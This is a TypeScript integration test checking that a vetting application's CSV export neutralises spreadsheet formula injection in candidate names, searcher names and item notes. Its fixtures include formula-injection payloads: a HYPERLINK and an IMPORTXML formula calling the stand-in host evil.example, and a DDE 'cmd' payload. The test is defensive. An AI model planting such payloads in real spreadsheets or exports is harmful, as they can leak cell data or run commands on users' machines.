import { parse } from 'csv-parse/sync';
import { Role } from '../../src/auth/role.enum';
import { CHECKLIST, designatedSearcher, itemBody } from '../support/fixtures';
import { startTestApp, TestApp, TestUser } from '../support/test-app';

/**
 * Spreadsheet formula injection through the uniformity CSV (the only CSV route): every text
 * cell an outsider can influence (candidate names, searcher names, item notes) comes back as
 * text a spreadsheet will not run.
 */
describe('CSV output neutralises spreadsheet formulas', () => {
  let t: TestApp;
  let admin: TestUser;
  let auditor: TestUser;

  beforeAll(async () => {
    t = await startTestApp();
    admin = await t.user([Role.ADMIN]);
    auditor = await t.user([Role.AUDITOR]);
  });
  afterAll(() => t.close());

  const NAMES = {
    leadingEquals: '=HYPERLINK("http://evil.example/?x="&A1,"Jordan")',
    leadingMinus: '-2+3',
    leadingAt: '@SUM(A1:A9)',
    leadingTab: '\t=1+1 Tabbed',
    afterSemicolon: "Doe;=cmd|'/C calc'!A0",
    afterComma: 'Rae,+1',
    afterNewline: 'Lee\n@evil',
    fullWidthEquals: '\uFF1D1+1 Wide',
    plain: 'Jordan Plain-Doe',
    plainWithComma: 'Doe, Jordan',
  };
  const NOTE = 'Not applicable;\r=IMPORTXML("http://evil.example","//a")';

  it('quotes and prefixes with an apostrophe every cell that starts with, or has after a separator, = + - @ tab or CR', async () => {
    const p = await t.http().post('/api/processes').set(admin.auth).send({ title: 'CSV 2026' });
    expect(p.status).toBe(201);
    const processId = p.body.id as string;
    await t
      .http()
      .put(`/api/processes/${processId}/checklist`)
      .set(admin.auth)
      .send({ items: CHECKLIST })
      .expect(200);
    const vettings: Record<string, string> = {};
    for (const [key, fullName] of Object.entries(NAMES)) {
      const c = await t
        .http()
        .post(`/api/processes/${processId}/candidates`)
        .set(admin.auth)
        .send({ fullName, consentRecordedAt: new Date(Date.now() - 864e5).toISOString() });
      expect({ key, status: c.status, body: c.body }).toMatchObject({ status: 201 });
      vettings[key] = c.body.id as string;
    }
    const searcher = await designatedSearcher(t, admin, '+Sam Searcher');
    await t
      .http()
      .post(`/api/vettings/${vettings.plain}/assignment`)
      .set(admin.auth)
      .send({ searcherId: searcher.id })
      .expect(200);
    await t
      .http()
      .put(`/api/vettings/${vettings.plain}/items/court`)
      .set(searcher.auth)
      .send(itemBody('NOT_APPLICABLE', { method: 'PUBLIC_RECORDS_PORTAL', notes: NOTE }))
      .expect(200);

    const res = await t
      .http()
      .get(`/api/processes/${processId}/uniformity?format=csv`)
      .set(auditor.auth);
    expect(res.status).toBe(200);
    const rows = parse<Record<string, string>>(res.text, { columns: true });
    const byVetting = new Map(rows.map((r) => [r.vettingId, r]));
    const name = (key: keyof typeof NAMES) => byVetting.get(vettings[key])!.candidateName;

    for (const key of [
      'leadingEquals',
      'leadingMinus',
      'leadingAt',
      'leadingTab',
      'afterSemicolon',
      'afterComma',
      'afterNewline',
      'fullWidthEquals',
    ] as const) {
      // The cell parses back to the name behind one apostrophe, and it was quoted in the file.
      expect({ key, cell: name(key) }).toEqual({ key, cell: `'${NAMES[key]}` });
      const quoted = `"'${NAMES[key].replace(/"/g, '""')}"`;
      expect({ key, quoted: res.text.includes(quoted) }).toEqual({ key, quoted: true });
    }
    // Nothing else changes: harmless text is byte for byte what was entered.
    expect(name('plain')).toBe(NAMES.plain);
    expect(name('plainWithComma')).toBe(NAMES.plainWithComma);
    expect(res.text).toContain(`,${NAMES.plain},`);
    const plainRow = byVetting.get(vettings.plain)!;
    expect(plainRow.searcherName).toBe("'+Sam Searcher");
    expect(plainRow.skippedItems).toBe(`'court (NOT_APPLICABLE): ${NOTE}`);
    // Numbers stay numbers.
    expect(plainRow.itemsTotal).toBe('3');
  });
});
